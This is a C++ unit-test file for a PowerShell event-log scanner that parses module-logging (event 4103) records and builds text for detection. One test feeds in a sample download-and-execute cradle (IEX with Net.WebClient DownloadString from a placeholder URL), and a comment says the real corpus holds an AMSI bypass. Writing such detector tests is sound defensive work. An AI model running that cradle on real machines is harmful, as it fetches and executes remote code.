#include "engine/src/module_logging.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <simdjson.h>

#include <filesystem>
#include <string>
#include <vector>

namespace sbscan {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

constexpr std::string_view kContext =
    "        Severity = Informational\r\n"
    "        Host Name = ServerRemoteHost\r\n"
    "        Host Version = 1.0.0.0\r\n"
    "        Host ID = 386ac606-c0a1-4f18-a86e-6a28baefb9f7\r\n"
    "        Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding\r\n"
    "        Engine Version = 5.1.19041.3803\r\n"
    "        Runspace ID = 5f72e181-c55b-4e38-9f6f-ca33a565d14e\r\n"
    "        Pipeline ID = 147\r\n"
    "        Command Name = Invoke-Expression\r\n"
    "        Command Type = Cmdlet\r\n"
    "        Script Name = \r\n"
    "        Command Path = \r\n"
    "        Sequence Number = 1221\r\n"
    "        User = CORP\\analyst\r\n"
    "        Connected User = CORP\\admin\r\n"
    "        Shell ID = Microsoft.PowerShell\r\n";

TEST(ModuleLoggingTest, ContextInfoEnglish) {
  ModuleContext c = ParseContextInfo(kContext);
  EXPECT_EQ(c.severity, "Informational");
  EXPECT_EQ(c.host_name, "ServerRemoteHost");
  EXPECT_EQ(c.host_version, "1.0.0.0");
  EXPECT_EQ(c.host_id, "386ac606-c0a1-4f18-a86e-6a28baefb9f7");
  EXPECT_EQ(c.host_application, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding");
  EXPECT_EQ(c.engine_version, "5.1.19041.3803");
  EXPECT_EQ(c.runspace_id, "5f72e181-c55b-4e38-9f6f-ca33a565d14e");
  EXPECT_EQ(c.pipeline_id, "147");
  EXPECT_EQ(c.command_name, "Invoke-Expression");
  EXPECT_EQ(c.command_type, "Cmdlet");
  EXPECT_EQ(c.script_name, "");
  EXPECT_EQ(c.command_path, "");
  EXPECT_EQ(c.sequence_number, "1221");
  EXPECT_EQ(c.user, "CORP\\analyst");
  EXPECT_EQ(c.connected_user, "CORP\\admin");
  EXPECT_EQ(c.shell_id, "Microsoft.PowerShell");
  EXPECT_EQ(c.lines, 16u);
  EXPECT_EQ(c.known, 16u);
  EXPECT_TRUE(c.unknown.empty());
  EXPECT_TRUE(IsRemoteSession(c));
}

TEST(ModuleLoggingTest, ContextInfoLfUnknownKeysAndValuesWithEquals) {
  ModuleContext c = ParseContextInfo(
      "    Host Name = ConsoleHost\n    Host Application = powershell.exe -c $a = 1\n"
      "    Extra Key = x\nno separator here\n");
  EXPECT_EQ(c.host_name, "ConsoleHost");
  EXPECT_EQ(c.host_application, "powershell.exe -c $a = 1");
  ASSERT_EQ(c.unknown.size(), 1u);
  EXPECT_EQ(c.unknown[0].key, "Extra Key");
  EXPECT_EQ(c.unknown[0].value, "x");
  EXPECT_FALSE(IsRemoteSession(c));
}

TEST(ModuleLoggingTest, ContextInfoGermanAndPositional) {
  ModuleContext de = ParseContextInfo(
      "        Schweregrad = Informativ\r\n        Hostname = ConsoleHost\r\n"
      "        Hostanwendung = powershell.exe -nop\r\n        Befehlsname = Get-Item\r\n");
  EXPECT_EQ(de.host_application, "powershell.exe -nop");
  EXPECT_EQ(de.command_name, "Get-Item");

  // An unknown language, 15 lines (no Connected User): fields by position.
  std::string text;
  for (int i = 0; i < 15; ++i) text += "        K" + std::to_string(i) + " = v" + std::to_string(i) + "\r\n";
  ModuleContext c = ParseContextInfo(text);
  EXPECT_EQ(c.severity, "v0");
  EXPECT_EQ(c.host_application, "v4");
  EXPECT_EQ(c.command_name, "v8");
  EXPECT_EQ(c.user, "v13");
  EXPECT_EQ(c.connected_user, "");
  EXPECT_EQ(c.shell_id, "v14");
  EXPECT_EQ(c.unknown.size(), 15u);  // kept as written too
}

TEST(ModuleLoggingTest, EngineDetailsOfClassicEvents) {
  ModuleContext c;
  ParseEngineDetails(
      "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n"
      "\tHostName=ServerRemoteHost\r\n\tHostVersion=1.0.0.0\r\n\tHostId=abc\r\n"
      "\tHostApplication=C:\\Windows\\system32\\wsmprovhost.exe -Embedding\r\n"
      "\tEngineVersion=5.1\r\n\tRunspaceId=r\r\n\tPipelineId=\r\n\tCommandName=\r\n"
      "\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine=\r\n",
      &c);
  EXPECT_EQ(c.host_name, "ServerRemoteHost");
  EXPECT_EQ(c.host_application, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding");
  EXPECT_EQ(c.sequence_number, "13");
  EXPECT_TRUE(IsRemoteSession(c));
  ASSERT_GE(c.unknown.size(), 3u);
  EXPECT_EQ(c.unknown[0].key, "NewEngineState");
  EXPECT_EQ(c.unknown[0].value, "Available");
}

TEST(ModuleLoggingTest, PayloadEntries) {
  std::string_view payload =
      "CommandInvocation(Out-Default): \"Out-Default\"\r\n"
      "ParameterBinding(Out-Default): name=\"InputObject\"; value=\"+----\r\n| Host : X\r\n+----\"\r\n"
      "ParameterBinding(New-Object): name=\"ArgumentList\"; value=\"a \"quoted\" b\"\r\n"
      "ParameterBinding(X): name=\"Empty\"; value=\"\"\r\n"
      "TerminatingError(New-Object): \"Exception calling \".ctor\"\"\r\n"
      "NonTerminatingError(Get-Item): \"not found\"\r\n";
  std::vector<PayloadItem> items = ParsePayload(payload);
  ASSERT_EQ(items.size(), 6u);
  EXPECT_EQ(items[0].kind, PayloadKind::kCommandInvocation);
  EXPECT_EQ(items[0].command, "Out-Default");
  EXPECT_EQ(items[0].value, "Out-Default");
  EXPECT_EQ(items[0].offset, 0u);
  EXPECT_EQ(items[1].kind, PayloadKind::kParameterBinding);
  EXPECT_EQ(items[1].name, "InputObject");
  EXPECT_EQ(items[1].value, "+----\r\n| Host : X\r\n+----");
  EXPECT_EQ(items[2].value, "a \"quoted\" b");
  EXPECT_EQ(items[3].name, "Empty");
  EXPECT_EQ(items[3].value, "");
  EXPECT_EQ(items[4].kind, PayloadKind::kTerminatingError);
  EXPECT_EQ(items[4].value, "Exception calling \".ctor\"");
  EXPECT_EQ(items[5].kind, PayloadKind::kNonTerminatingError);
  EXPECT_EQ(payload.substr(items[5].offset, 19), "NonTerminatingError");

  std::vector<PayloadItem> few;
  size_t dropped = 0;
  ParsePayload(payload, &few, 2, &dropped);
  EXPECT_EQ(few.size(), 2u);
  EXPECT_EQ(dropped, 4u);

  EXPECT_TRUE(ParsePayload("").empty());
  std::vector<PayloadItem> other = ParsePayload("Context:\r\n  something\r\n");
  ASSERT_EQ(other.size(), 1u);
  EXPECT_EQ(other[0].kind, PayloadKind::kOther);
}

TEST(ModuleLoggingTest, ScanTextHasCommandValuesAndHostCommandLine) {
  ModuleContext c = ParseContextInfo(kContext);
  std::vector<PayloadItem> items = ParsePayload(
      "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"\r\n"
      "ParameterBinding(Invoke-Expression): name=\"Command\"; value=\"IEX (New-Object "
      "Net.WebClient).DownloadString('http://x/a.ps1')\"\r\n"
      "TerminatingError(Invoke-Expression): \"blocked\"\r\n");
  ModuleScanText scan;
  BuildModuleScanText(c, items, &scan);
  EXPECT_EQ(scan.text,
            "Invoke-Expression\nIEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\n"
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding");
  ASSERT_EQ(scan.pieces.size(), 3u);
  EXPECT_EQ(scan.pieces[0].source, ScanPiece::Source::kCommandName);
  EXPECT_EQ(scan.pieces[1].source, ScanPiece::Source::kParameterValue);
  EXPECT_EQ(scan.pieces[1].payload_item, 1u);
  EXPECT_EQ(scan.text.substr(scan.pieces[1].offset, 3), "IEX");
  EXPECT_EQ(scan.pieces[2].source, ScanPiece::Source::kHostApplication);
  EXPECT_EQ(ScanPieceSourceName(scan.pieces[2].source), "host_application");
}

// Every real 4103 event of the corpus: all ContextInfo keys known, the payload fully covered
// by entries, and the scan text holds the command name and parameter values.
TEST(ModuleLoggingTest, RealCorpusEvents) {
  namespace fs = std::filesystem;
  fs::path root = fs::path(SBSCAN_SHARED_DIR) / "corpus" / "jsonl";
  if (!fs::exists(root)) GTEST_SKIP() << "no corpus at " << root;
  simdjson::ondemand::parser parser;
  size_t events = 0, bindings = 0, invocations = 0;
  std::vector<PayloadItem> items;
  ModuleContext c;
  ModuleScanText scan;
  for (const auto& entry : fs::recursive_directory_iterator(root)) {
    if (!entry.is_regular_file() || entry.path().extension() != ".jsonl") continue;
    simdjson::padded_string data;
    ASSERT_EQ(simdjson::padded_string::load(entry.path().string()).get(data), simdjson::SUCCESS);
    simdjson::ondemand::document_stream docs;
    ASSERT_EQ(parser.iterate_many(data).get(docs), simdjson::SUCCESS);
    for (auto doc : docs) {
      int64_t id = 0;
      ASSERT_EQ(doc["EventID"].get_int64().get(id), simdjson::SUCCESS);
      if (id != 4103) continue;
      std::string_view ci, pl;
      ASSERT_EQ(doc["ContextInfo"].get_string().get(ci), simdjson::SUCCESS);
      ASSERT_EQ(doc["Payload"].get_string().get(pl), simdjson::SUCCESS);
      std::string context(ci), payload(pl);
      ++events;
      ParseContextInfo(context, &c);
      EXPECT_TRUE(c.unknown.empty()) << context;
      EXPECT_GE(c.known, 15u) << context;
      EXPECT_FALSE(c.host_name.empty());
      EXPECT_THAT(std::string(c.host_application), HasSubstr("powershell"))
          << entry.path();
      ParsePayload(payload, &items);
      ASSERT_FALSE(items.empty()) << payload;
      EXPECT_EQ(items[0].offset, 0u);
      for (size_t i = 0; i < items.size(); ++i) {
        EXPECT_NE(items[i].kind, PayloadKind::kOther) << payload;
        if (items[i].kind == PayloadKind::kParameterBinding) {
          ++bindings;
          EXPECT_FALSE(items[i].name.empty()) << payload;
        }
        if (items[i].kind == PayloadKind::kCommandInvocation) {
          ++invocations;
          EXPECT_EQ(items[i].command, items[i].value);
        }
      }
      BuildModuleScanText(c, items, &scan);
      for (const PayloadItem& item : items) {
        if (item.kind == PayloadKind::kParameterBinding && !item.value.empty() &&
            item.value.find_first_not_of(" \t\r\n") != std::string_view::npos) {
          EXPECT_THAT(scan.text, HasSubstr(std::string(item.value)));
        }
      }
    }
  }
  EXPECT_EQ(events, 161u);
  EXPECT_GT(bindings, 100u);
  EXPECT_GE(invocations, events);
  // The Invoke-Expression payload of the corpus carries the AMSI bypass in a parameter value.
}

}  // namespace
}  // namespace sbscan
